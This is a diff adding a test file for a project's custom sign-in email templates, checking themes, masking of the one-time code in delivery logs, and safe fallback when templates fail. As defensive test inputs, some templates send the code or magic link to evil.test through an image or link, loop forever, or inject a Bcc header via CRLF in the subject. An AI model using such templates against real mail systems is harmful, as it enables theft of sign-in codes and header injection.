@@ -1,0 +1,224 @@
+import { eq } from "drizzle-orm";
+import { describe, expect, inject, it } from "vitest";
+import { sentEmails } from "../../db/emails/schema";
+import type { Json } from "../../protocol/fields";
+import { callbackUrl, mailCode, redeemCode, sendCode } from "../../testing/code-sign-ins";
+import { freshAddress, mailbox } from "../../testing/mailbox";
+import { owner } from "../../testing/owner";
+import { signUp } from "../../testing/password-sign-ins";
+import { db, internalProject, project, type TestProject } from "../../testing/project";
+import { sendRequest } from "../../testing/send-request";
+
+const light = "1df07ae6-abf3-4a40-83a5-a1a2cbe336ac";
+const dark = "a0172b5d-cff0-463b-83bb-85124697373a";
+const magicLink = "822687fe-8d0a-4467-a0d1-416b6e639478";
+const emailVerification = "e7d009ce-8d47-4528-b245-5bf119f2ffa3";
+
+/** A template of sign-in mails. */
+const templateOf = (body: string, before = "") => `import { NotificationCategory, Subject } from "@stackframe/emails";
+export const variablesSchema = (variables) => variables;
+export function EmailTemplate({ variables, user, project }) {
+  ${before}
+  return <>
+    <Subject value={"Own: Your code is " + variables.otp} />
+    <NotificationCategory value="Transactional" />
+    ${body}
+  </>;
+}
+`;
+const button = "<a href={variables.magicLink}>Sign in</a>";
+const themeOf = (className: string) =>
+  `export const EmailTheme = ({ children }) => <main className="${className}">{children}</main>;`;
+
+const changed = (tsxSource: string, fields: Record<string, Json> = {}): Record<string, Json> => ({
+  [`emails.templates.${magicLink}`]: { displayName: "Magic Link/OTP", tsxSource, ...fields },
+});
+const signInProject = (override: Record<string, Json>) => project({ "auth.otp.allowSignIn": true, ...override });
+
+async function problemsOf(p: TestProject) {
+  const { body } = await p.admin("GET /internal/audit-events", { query: { type: "email_template.failed" } });
+  return body.items as { target: unknown; actor: unknown; details: unknown }[];
+}
+
+async function logOf({ id }: { id: string }) {
+  const [rows] = await db.batch([db.select().from(sentEmails).where(eq(sentEmails.projectId, id))]);
+  return rows;
+}
+
+describe("the system mails of a project that has changed them", () => {
+  it("say what the template says, in the active theme, and the code in them signs in", async () => {
+    const theme = { [`emails.themes.${light}.tsxSource`]: themeOf("own-theme") };
+    const p = await signInProject({ ...changed(templateOf(`<p>Mine {project.displayName}</p>${button}`)), ...theme });
+    const { mail, linked, typed, nonce } = await mailCode(p);
+    expect(mail?.subject).toMatch(/^Own: Your code is [A-Z0-9]{6}$/);
+    expect(mail?.html).toMatch(/<main class="own-theme"><p>Mine (<!-- -->)?Test project<\/p>/);
+    expect(mail?.text).toContain("Mine Test project");
+    expect(mail?.links).toHaveLength(1);
+    expect((await redeemCode(p, linked)).status).toBe(200);
+    expect(typed + nonce).not.toBe("");
+    expect(await problemsOf(p)).toEqual([]);
+  });
+
+  it("have the code not in the delivery log, however the template writes it", async () => {
+    const p = await signInProject(
+      changed(templateOf(button).replace("variables.otp}", "variables.otp.toLowerCase()}")),
+    );
+    await sendCode(p, freshAddress());
+    expect(await logOf(p)).toMatchObject([{ subject: "Own: Your code is ••••••", error: null }]);
+  });
+
+  it("take the theme that the template names, and each as it comes where nothing else is changed", async () => {
+    const themes = { [`emails.themes.${dark}.tsxSource`]: themeOf("own-dark") };
+    for (const [override, shown] of [
+      [{ ...changed(templateOf(button), { themeId: dark }), ...themes }, 'class="own-dark"'],
+      [{ "emails.selectedThemeId": dark, ...themes }, 'class="own-dark"'],
+      [changed(templateOf(button), { themeId: false }), ">Sign in</a>"],
+      // As every project has it, with the button in its own look.
+      [{}, 'class="button"'],
+    ] as const) {
+      const { mail } = await mailCode(await signInProject(override));
+      expect(mail?.html).toContain(shown);
+    }
+  });
+
+  it("give older templates the names that they declare, without what mail programs would link", async () => {
+    const source = `import { Subject } from "@stackframe/emails";
+import { type } from "arktype";
+export const variablesSchema = type({ emailVerificationLink: "string", projectDisplayName: "string", userDisplayName: "string" });
+export function EmailTemplate({ variables: { emailVerificationLink, ...names }, user, project }) {
+  return <><Subject value="Own" /><a href={emailVerificationLink}>Verify</a><pre>{JSON.stringify({ names, user, project })}</pre></>;
+}`;
+    const p = await project({ [`emails.templates.${emailVerification}`]: { displayName: "x", tsxSource: source } });
+    const email = freshAddress();
+    await signUp(p, { email });
+    const [mail] = await mailbox({ to: email });
+    expect(await problemsOf(p)).toEqual([]);
+    expect(mail?.subject).toBe("Own");
+    const names = { projectDisplayName: "Test project", userDisplayName: "" };
+    expect(mail?.text.replaceAll("\n", "")).toContain(
+      JSON.stringify({ names, user: { displayName: null }, project: { displayName: "Test project" } }),
+    );
+  });
+
+  it("go out by the project's own server too", async () => {
+    const port = inject("mail").plainPort;
+    const server = { isShared: false, host: "127.0.0.1", port, senderName: "Mine", senderEmail: "mail@acme.test" };
+    const p = await signInProject({ ...changed(templateOf(button)), "emails.server": server });
+    const { mail } = await mailCode(p);
+    expect([mail?.message.from?.address, mail?.subject.slice(0, 4)]).toEqual(["mail@acme.test", "Own:"]);
+  });
+});
+
+// Attack: a source that breaks, or is broken by a change of what it is given, locks all users out.
+describe("a template that does not work when a mail is sent", () => {
+  it.each([
+    ["does not compile", "export const {", { reason: "source", file: "template" }],
+    ["throws the code", templateOf(button, "throw new Error(variables.otp);"), { reason: "source", line: 4 }],
+    ["loops for ever", templateOf(button, "for (;;) {}"), { reason: "source" }],
+    ["has no link", templateOf("<p>Welcome</p>"), { reason: "link" }],
+    ["links to another page", templateOf('<a href="https://evil.test/">Sign in</a>'), { reason: "link" }],
+    [
+      "has an image with the code",
+      templateOf(`${button}<img src={"https://evil.test/?c=" + variables.otp} />`),
+      { reason: "address" },
+    ],
+    [
+      "links to a page that passes the code on",
+      templateOf(`${button}<a href={"https://evil.test/?to=" + encodeURIComponent(variables.magicLink)}>Go</a>`),
+      { reason: "address" },
+    ],
+  ])("200 as every project has it where one %s, which the audit log says once an hour", async (_, source, details) => {
+    const p = await signInProject(changed(source));
+    const { mail, linked, typed } = await mailCode(p);
+    expect(mail?.subject).toMatch(/^Sign in to Test project: Your code is /);
+    expect((await redeemCode(p, linked)).status).toBe(200);
+    await sendCode(p, freshAddress());
+    expect((await logOf(p)).map(({ error }) => error)).toEqual([null, null]);
+
+    const problems = await problemsOf(p);
+    expect(problems).toMatchObject([
+      { actor: { type: "system" }, target: { type: "email_template", id: magicLink }, details },
+    ]);
+    for (const secret of [typed, linked]) expect(JSON.stringify(problems)).not.toContain(secret);
+  });
+
+  it("200 as every project has it where one asks for other variables, or the theme is broken", async () => {
+    const asking = `import { type } from "arktype";
+${templateOf(button).replace(/variablesSchema = .*/, 'variablesSchema = type({ missing: "string" });')}`;
+    for (const override of [changed(asking), { [`emails.themes.${light}.tsxSource`]: "export {};" }]) {
+      const p = await signInProject(override);
+      expect((await mailCode(p)).typed).toMatch(/^[A-Z0-9]{6}$/);
+      expect(await problemsOf(p)).toHaveLength(1);
+    }
+  });
+
+  it("200 as every project has it where the installation renders no sources of users", async () => {
+    const [p, to] = [await signInProject(changed(templateOf(button))), freshAddress()];
+    const body = { email: to, callback_url: callbackUrl };
+    await p.client("POST /auth/otp/send-sign-in-code", { body, settings: { SANDBOX: undefined } });
+    const [mail] = await mailbox({ to });
+    expect(mail?.subject).toMatch(/^Sign in to Test project: Your code is /);
+    expect(await problemsOf(p)).toMatchObject([{ details: { reason: "unavailable" } }]);
+  });
+
+  it("has no lines in its subject, and that of every project where it has none", async () => {
+    // Attack: a subject with lines of its own adds headers to the mail.
+    const subject = (value: string) => templateOf(button).replace(/<Subject .*/, value);
+    const lines = subject('<Subject value={"One\\r\\nBcc: evil@evil.test\\u0000"} />');
+    for (const [source, expected] of [
+      [lines, /^One Bcc: evil@evil.test$/],
+      [subject(""), /^Sign in to Test project: Your code is /],
+    ] as const) {
+      const [p, to] = [await signInProject(changed(source)), freshAddress()];
+      await sendCode(p, to);
+      const [mail] = await mailbox({ to });
+      expect(mail?.subject).toMatch(expected);
+      expect(mail?.raw).not.toMatch(/^Bcc:/m);
+      expect(mail?.html).toContain(">Sign in</a>");
+    }
+  });
+});
+
+describe("a project on the shared mail server of a deployment", () => {
+  // Attack: a stranger's project has the installation's mail server deliver advertisements, as mails of signing in.
+  it("sends no text of its own, but in each theme that every project has", async () => {
+    const { userId, teamId, token, client } = await owner();
+    const email = freshAddress();
+    const address = { type: "email", value: email, is_primary: true, is_verified: true, used_for_auth: true };
+    await internalProject().server("POST /contact-channels", { body: { user_id: userId, ...address } });
+    const { body } = await client("POST /internal/projects", {
+      body: {
+        display_name: "Acme",
+        owner_team_id: teamId,
+        config: { magic_link_enabled: true, allow_localhost: true },
+      },
+    });
+    const id = body.id as string;
+    const headers = {
+      "x-stack-project-id": id,
+      "x-stack-access-type": "admin",
+      "x-stack-admin-access-token": token,
+      "cf-connecting-ip": "2001:db8:cccc::1",
+    };
+    const settings = { RATE_LIMITS: "on" };
+    const mailAfter = async (patch: object) => {
+      const to = freshAddress();
+      const override = { config_override_string: JSON.stringify(patch) };
+      await sendRequest("PATCH /internal/config/override", { headers, body: override });
+      const body = { email: to, callback_url: callbackUrl };
+      await sendRequest("POST /auth/otp/send-sign-in-code", { headers, settings, body });
+      return (await mailbox({ to }))[0];
+    };
+    for (const patch of [changed(templateOf(button)), { [`emails.themes.${light}`]: null }]) {
+      const mail = await mailAfter(patch);
+      expect(mail?.subject).toMatch(/^Sign in to Acme: Your code is /);
+      expect(mail?.html).toContain('class="button"');
+    }
+    const advertising = { displayName: "Ads", tsxSource: themeOf("ads") };
+    expect((await mailAfter({ [`emails.themes.${light}`]: advertising }))?.html).not.toContain('class="ads"');
+    await mailAfter({ [`emails.templates.${magicLink}`]: null });
+    const inDark = await mailAfter({ "emails.selectedThemeId": dark });
+    expect(inDark?.html).not.toContain('class="button"');
+    expect(inDark?.links).toHaveLength(1);
+  });
+});
